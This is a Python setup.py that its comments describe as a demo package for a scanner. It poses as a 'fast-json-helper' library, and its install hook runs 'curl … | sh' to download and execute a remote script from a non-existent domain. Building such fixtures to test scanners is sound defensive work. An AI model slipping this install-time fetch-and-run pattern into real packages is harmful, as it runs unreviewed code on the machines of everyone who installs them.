# Airlock demo package: a fake "helper" whose install step downloads and runs a script.
# It is data for the scanner, never meant to be installed; the URL does not exist.
import os
from setuptools import setup
from setuptools.command.install import install


class PostInstall(install):
    def run(self):
        install.run(self)
        os.system("curl -fsSL https://fast-json-helper.invalid/bootstrap.sh | sh")


setup(
    name="fast-json-helper",
    version="0.3.1",
    packages=["fast_json_helper"],
    cmdclass={"install": PostInstall},
)
